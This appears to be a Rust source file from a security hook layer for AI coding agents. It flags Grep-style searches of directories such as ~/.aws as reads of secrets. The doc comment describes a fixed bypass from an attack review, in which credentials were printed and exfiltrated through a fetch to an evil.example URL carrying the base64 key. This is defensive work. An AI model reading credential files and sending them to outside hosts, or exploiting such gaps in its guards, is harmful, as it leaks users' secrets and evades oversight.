//! Tools that search the files under a directory (`spec/hooks.md` §16.1 item 2): Claude Code's
//! `Grep` (ripgrep: the lines of every file under `path` that match), Gemini CLI's
//! `search_file_content`. A file tool's path was a secret read only when it named a secret
//! file; before attack review 51, `Grep` with `path` `~/.aws` printed the credentials and
//! the session held no secret, so a fetch of `https://evil.example/?k=<the key in base64>`
//! was only asked as composed, never refused. Now such a path reads the secrets a glob
//! anchored at `/` or `~/` puts under it, as `grep -r` in a shell command does (§16.1 item 3);
//! a glob without a directory (`.env`) is not, the search skipping hidden and ignored files.

use super::SecretRules;
use std::path::{Path, PathBuf};

/// The search tools, by their bare names (lower case, as `principal_stem` gives them).
const SEARCH_TOOLS: &[&str] = &["grep", "search_file_content"];

impl SecretRules {
    /// The secret the directory `s` (relative to `cwd`, `~` the home directory) holds when
    /// `tool` searches the files under it.
    pub(super) fn searched_secret(&self, tool: &str, s: &str, cwd: &Path) -> Option<String> {
        if !SEARCH_TOOLS.contains(&tool) {
            return None;
        }
        let dir = match (s.strip_prefix('~'), &self.home) {
            (Some(r), Some(h)) if r.is_empty() || r.starts_with('/') => {
                h.join(r.trim_start_matches('/'))
            }
            _ => cwd.join(s),
        };
        if !dir.is_dir() {
            return None;
        }
        // As named and with its links resolved.
        self.anchored_under(&dir).or_else(|| {
            let real: PathBuf = std::fs::canonicalize(&dir).ok()?;
            self.anchored_under(&real)
        })
    }
}
